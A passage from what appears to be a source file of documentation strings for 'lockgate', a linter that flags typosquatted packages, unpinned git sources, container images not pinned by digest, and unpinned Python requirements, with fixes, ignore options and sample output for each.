import time with the developer's or the CI job's credentials. Such\npackages are usually removed within days of being found, which is why a locked package that\nvanished from the index deserves a look even when its name looks innocent.\n\n## How to fix\n\nIf you meant the popular package, replace the name and re-lock. For a direct dependency:\n\n```console\nuv remove reqeusts && uv add requests\n```\n\nFor a package another dependency pulls in, find which one with\n`uv tree --invert --package reqeusts` and replace or remove it. If a look-alike was installed\nanywhere, treat that machine's credentials as exposed.\n\nIf the name is right (your own package, or a genuine project that happens to look alike), allow it:\n\n```yaml\n# .github/lockgate.yml\ntyposquat:\n  allow: [psutils]\n```\n\n## How to ignore\n\n`typosquat.allow` (above) is the durable way: uv rewrites `uv.lock` on every `uv lock`, so an\ninline `# lockgate: ignore[typosquat]` comment on the `[[package]]` line (or the line above it)\nworks only until the next lock. To waive a finding for a while, use a config ignore with a reason\nand an expiry:\n\n```yaml\nignore:\n  - rule: typosquat\n    package: psutils\n    until: 2027-01-31\n    reason: reviewed, a genuine fork of psutil we depend on\n```\n\n## Example\n\n```text\nuv.lock:75 error typosquat: \"reqeusts\" looks like a typosquat of \"requests\", the #6 most downloaded\nPyPI package (two adjacent letters swapped). Installing the wrong package runs its author's code;\ncheck that this is the package you meant.\nfix: If you meant \"requests\": replace \"reqeusts\" with \"requests\" in pyproject.toml, or run\n`uv remove reqeusts && uv add requests`. If \"reqeusts\" is the package you want, add it to\ntyposquat.allow in .github/lockgate.yml.\n```\n",
     "unpinned-git-source": "# unpinned-git-source\n\nDefault severity: **warning**.\n\nA git source names no rev or tag.\n\n## What it reports\n\nA `[tool.uv.sources]` git entry (root or member, single or in a list) with neither `rev` nor\n`tag`: it follows a `branch`, or the repository's default branch. Also a PEP 508 requirement\n`name @ git+https://…` without any `@ref`.\n\n## Why\n\nToday the lock pins the commit. The next `uv lock --upgrade` (or any re-lock that touches the\npackage) takes whatever the branch points at then: a commit nobody reviewed, pushed by anyone who\ncan push to that branch. A `rev` (a commit) or a `tag` makes a move an explicit change.\n\n## How to fix\n\nPin it to the commit the lock already uses (the message gives it):\n\n```toml\n[tool.uv.sources]\nonbranch = { git = \"https://github.com/example/onbranch.git\", rev = \"89abcdef0123456789abcdef0123456789abcdef\", subdirectory = \"pkg\" }\n```\n\nor to a tag: `tag = \"v1.2.0\"`. Then `uv lock`.\n\n## How to ignore\n\nA config `ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[unpinned-git-source]` on the source's line or the line above.\n\n## Example\n\n```\npyproject.toml:21 warning unpinned-git-source: The git source of onbranch\n(https://github.com/example/onbranch.git) follows the branch \"main\", so the next\n`uv lock --upgrade` takes whatever commit the branch points at then, unreviewed. Today only the\nlock pins it, to 89abcdef0123456789abcdef0123456789abcdef.\n```\n",
     "unpinned-image": "# unpinned-image\n\nDefault severity: **error**.\n\nA container image is not pinned by digest.\n\n## What it reports\n\nContainer images referenced without a full `@sha256:<64 hex>` digest in:\n\n- a step's `uses: docker://image` (workflows and composite actions),\n- a job's `container:` (a string) or `container.image`,\n- `services.<id>.image`,\n- a Docker action's `runs.image: docker://image` (`action.yml`).\n\nA tag (`python:3.12`), no tag (`node`, which means `latest`) and a short or malformed digest are all\nreported; the finding points at the image value. Not reported: an empty `container:` (used to turn a\ncontainer off in a matrix), a value that is only an expression (`${{ matrix.image }}`, unknown until\nthe run) or whose digest part is one (`python@${{ vars.DIGEST }}`), and a Docker action built from a\nlocal `Dockerfile`. An image that mixes text and an expression (`rockylinux:${{ matrix.version }}`)\nis reported: whatever the expression gives, there is no digest.\n\n## Why\n\nA tag is mutable: the registry (or whoever can push to it) can serve different content under\n`python:3.12` tomorrow, and the job runs it with the job's token and secrets. A digest names exactly\none image manifest. Unlike actions, images are not covered by Dependabot's `github-actions`\necosystem unless you pin them: with a digest, Dependabot's `docker` ecosystem can update them.\n\n## How to fix\n\nKeep the tag for readability and add the digest:\n\n```yaml\n    container: python:3.12-slim@sha256:<digest>\n```\n\nGet the digest (of the multi-platform index) with:\n\n```sh\ndocker buildx imagetools inspect python:3.12-slim    # the \"Digest:\" line\n# or\ncrane digest python:3.12-slim\n```\n\n## How to ignore\n\nOn the image line or the line above it:\n\n```yaml\n    # lockgate: ignore[unpinned-image] throwaway test database\n    services:\n      db:\n        image: postgres:16\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: unpinned-image\n    path: .github/workflows/integration.yml\n    until: 2027-01-01\n    reason: service images pinned with the next test refresh\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    container: python:3.12\n    steps:\n      - run: python --version\n```\n\n```\nerror[unpinned-image] .github/workflows/ci.yml:7:16\n  The image python:3.12 (job test container) is referenced by a tag, not by @sha256 digest: the\n  registry can serve different content under the same name at any time.\n  fix: python:3.12@sha256:<digest>, with the digest from: docker buildx imagetools inspect python:3.12   (the \"Digest:\" line)\n```\n",
     "unpinned-requirement": "# unpinned-requirement\n\nDefault severity: **notice**.\n\nA direct dependency is not pinned with `==`.\n\n## What it reports\n\nA requirement in `project.dependencies`, `project.optional-dependencies`, `[dependency-groups]`\nor `tool.uv.dev-dependencies` (root and workspace members) that has no `==` (or `===`) pin.\n`==1.*` is a range. Not reported: requirements with a direct URL, packages with a git, path,\nURL or workspace source in `[tool.uv.sources]`, and the workspace's own members.\n\nThe scope is configurable:\n\n```yaml\n# .github/lockgate.yml\nrequirements:\n  pin: direct   # none | direct (default) | all (also [build-system] requires)\n```\n\n## Why\n\nA range lets `uv lock --upgrade` or a bot move the dependency in a change that only touches\n`uv.lock`, which reviewers tend to skim. An exact pin makes each upgrade a visible edit of the\ndependency list.\n\n## How to fix\n\nReplace the requirement with the exact pin the message gives (the locked version, extras and\nmarker kept), or let uv write it:\n\n```sh\nuv add \"httpx==0.28.1\"\nuv add --group dev \"pytest==8.4.0\"\n```\n\nSet `add-bounds = \"exact\"` so `uv add` pins from now on.\n\n## How to ignore\n\n`requirements.pin: none` in the config, `rules: { unpinned-requirement: off }`, a config\n`ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[unpinned-requirement]` on the requirement's line or the line above.\n\n## Example\n\n```\npyproject.toml:7 notice unpinned-requirement: \"httpx>=0.28\" in project.dependencies is not pinned\nwith ==, so `uv lock --upgrade` or a bot can move it to any release the range allows.\n  fix: Replace it with \"httpx==0.28.1\" (0.28.1 is the locked version), or run: uv add httpx==0.28.1\n```\n",
